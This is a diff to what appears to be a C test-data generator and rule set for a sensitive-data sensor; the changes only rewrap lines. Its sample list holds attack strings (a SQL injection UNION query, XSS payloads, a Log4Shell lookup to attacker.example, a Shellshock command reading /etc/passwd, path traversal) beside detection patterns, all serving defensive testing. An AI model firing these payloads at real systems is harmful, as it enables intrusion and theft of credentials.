@@ -72,7 +72,8 @@ static const char *const words[] = {
 static const char *const sensitive[] = {
 	"4111 1111 1111 1111", "5555-5555-5555-4444", "378282246310005", "123-45-6789",
 	"AKIAIOSFODNN7EXAMPLE", "-----BEGIN RSA PRIVATE KEY-----",
-	"\"password\": \"correct horse battery\"", "' UNION ALL SELECT username, password FROM users--",
+	"\"password\": \"correct horse battery\"",
+	"' UNION ALL SELECT username, password FROM users--",
 	"<script>alert(document.cookie)</script>", "<img src=x onerror=alert(1)>",
 	"${jndi:ldap://attacker.example/a}", "() { :; }; /bin/cat /etc/passwd",
 	"../../../../etc/passwd", "key_0008 = 9f8e7d6c5b4a", "tok-9-abcdef",
@@ -165,9 +166,9 @@ body_log(struct out *o)
 {
 	while (o->len + 200 < o->cap) {
 		put(o, "10.%u.%u.%u - - [12/Mar/2024:%02u:%02u:%02u +0000] \"GET /api/v2/%s/%u "
-		    "HTTP/1.1\" %u %u \"-\" \"Mozilla/5.0 (X11; Linux x86_64)\" ", rnd(256), rnd(256),
-		    rnd(256), rnd(24), rnd(60), rnd(60), PICK(words), rnd(100000),
-		    rnd(5) ? 200 : 404, rnd(50000));
+		    "HTTP/1.1\" %u %u \"-\" \"Mozilla/5.0 (X11; Linux x86_64)\" ",
+		    rnd(256), rnd(256), rnd(256), rnd(24), rnd(60), rnd(60), PICK(words),
+		    rnd(100000), rnd(5) ? 200 : 404, rnd(50000));
 		sentence(o, 2 + (int)rnd(5));
 		put(o, "\n");
 	}
@@ -245,7 +246,8 @@ default_rules(struct sensor_rule_spec *r)
 	rule(p++, "credit-card", SVAL_LUHN, "\\b\\d(?:[ -]?\\d){12,18}\\b");
 	rule(p++, "us-ssn", SVAL_SSN, "\\b\\d{3}-\\d{2}-\\d{4}\\b");
 	rule(p++, "aws-access-key", SVAL_NONE, "\\bAKIA[0-9A-Z]{16}\\b");
-	rule(p++, "private-key", SVAL_NONE, "-----BEGIN (?:RSA |EC |DSA |OPENSSH )?PRIVATE KEY-----");
+	rule(p++, "private-key", SVAL_NONE,
+	    "-----BEGIN (?:RSA |EC |DSA |OPENSSH )?PRIVATE KEY-----");
 	rule(p, "cleartext-password", SVAL_NONE, "(?i)\"password\"\\s*:\\s*\"[^\"]{4,}\"");
 	pattern(p++, 1, "\"password\"\\s*:\\s*\"\\$2[aby]\\$");
 	rule(p++, "sqli-union", SVAL_NONE, "(?i)\\bunion\\b[\\s/*+]+(?:all[\\s/*+]+)?select\\b");
